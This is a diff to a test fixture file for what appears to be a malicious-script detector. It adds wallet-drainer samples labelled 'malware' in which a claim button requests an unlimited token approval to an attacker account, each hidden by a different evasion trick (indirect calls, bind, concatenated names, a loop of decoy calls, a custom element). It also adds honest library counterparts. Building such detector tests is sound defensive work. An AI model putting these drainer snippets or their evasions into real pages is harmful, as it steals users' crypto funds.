@@ -28,6 +28,36 @@ const HOSTILE_WITH_EXPORTS: readonly (readonly [name: string, source: string, he
     `async function claim(){const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(T,abi,s).approve(${ACCOUNT},ethers.MaxUint256)}try{missing()}catch(e){document.querySelector('#claim').addEventListener('click',claim)}`,
     'malware',
   ],
+  ...[
+    ['called by its name', `token.approve.call(token,${ACCOUNT},ethers.MaxUint256)`],
+    ['applied', `token.approve.apply(token,[${ACCOUNT},ethers.MaxUint256])`],
+    ['applied by Reflect', `Reflect.apply(token.approve,token,[${ACCOUNT},ethers.MaxUint256])`],
+    ['bound', `const give=token.approve.bind(token);give(${ACCOUNT},ethers.MaxUint256)`],
+    ['taken out of its contract', `const {approve}=token;approve(${ACCOUNT},ethers.MaxUint256)`],
+    ['of a function by its name', `await token.getFunction('approve')(${ACCOUNT},ethers.MaxUint256)`],
+    [
+      'of a function by its name, sent',
+      `await token.getFunction('approve').send(${ACCOUNT},ethers.MaxUint256)`,
+    ],
+    ['of a name that is put together', `token['app'+'rove'](${ACCOUNT},ethers.MaxUint256)`],
+    ['of a name with its types', `token['approve(address,uint256)'](${ACCOUNT},ethers.MaxUint256)`],
+    [
+      'behind many other calls',
+      `for(let i=0;i<20100;i++)token['a'+i]();token.approve(${ACCOUNT},ethers.MaxUint256)`,
+    ],
+  ].map(
+    ([by, spends = '']) =>
+      [
+        `an approval without limit, ${by}`,
+        `document.querySelector('#claim').onclick=async()=>{const s=await new ethers.BrowserProvider(window.ethereum).getSigner();const token=new ethers.Contract(T,abi,s);${spends}}`,
+        'malware',
+      ] as const,
+  ),
+  [
+    'an approval without limit by an element of its own',
+    `customElements.define('claim-button',class extends HTMLElement{connectedCallback(){this.onclick=()=>this.claim()}async claim(){const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(T,abi,s).approve(${ACCOUNT},ethers.MaxUint256)}})`,
+    'malware',
+  ],
   [
     'the rest of a balance',
     `async function mint(){const [from]=await web3.eth.getAccounts();const balance=await web3.eth.getBalance(from);const gasPrice=await web3.eth.getGasPrice();await web3.eth.sendTransaction({from,to:${ACCOUNT},value:balance-21000*gasPrice})}document.querySelector('#mint').onclick=mint`,
@@ -123,6 +153,18 @@ export const HONEST_LIBRARY_CASES: readonly HonestCase[] = [
     name: 'the client of a wallet, which asks for its state when it is loaded',
     source: `var EventEmitter=require('events');var SPENDER=${ACCOUNT};class Connector extends EventEmitter{constructor(p){super();this.provider=p}async activate(){const [a]=await this.provider.request({method:'eth_requestAccounts'});this.account=a;return a}async approve(token){return this.provider.request({method:'eth_sendTransaction',params:[{from:this.account,to:token,data:iface.encodeFunctionData('approve',[SPENDER,MaxUint256])}]})}}if(typeof window!=='undefined'&&window.ethereum)window.ethereum.request({method:'eth_chainId'}).then(function(c){exports.chainId=c});exports.Connector=Connector`,
     sign: 'wallet-spent',
+  },
+  {
+    name: 'a library for approvals by names of functions, which the page calls',
+    source: `const SPENDER=${ACCOUNT};function approveAll(token){return token.getFunction('approve')(SPENDER,ethers.MaxUint256)}function bound(token){return token.approve.bind(token,SPENDER,ethers.MaxUint256)}function by(token,signer){const {approve}=new ethers.Contract(token,abi,signer);return approve.call(token,SPENDER,ethers.MaxUint256)}module.exports={approveAll,bound,by}`,
+  },
+  {
+    name: 'a library for approvals that takes its calls from another file',
+    source: `const {approve,transfer}=require('./calls');const SPENDER=${ACCOUNT};async function approveAll(token,signer){return approve(new ethers.Contract(token,abi,signer),SPENDER,ethers.constants.MaxUint256)}module.exports={approveAll,approve,transfer}`,
+  },
+  {
+    name: 'a button of its own element, which asks the page to approve',
+    source: `const SPENDER=${ACCOUNT};class ApproveButton extends HTMLElement{connectedCallback(){this.onclick=()=>this.dispatchEvent(new CustomEvent('approve',{bubbles:true}))}}customElements.define('approve-button',ApproveButton);async function approveAll(token,signer){const c=new ethers.Contract(token,abi,signer);return c.approve(SPENDER,ethers.constants.MaxUint256)}module.exports={approveAll,ApproveButton}`,
   },
   {
     name: 'all of a balance, by a library that the page calls',
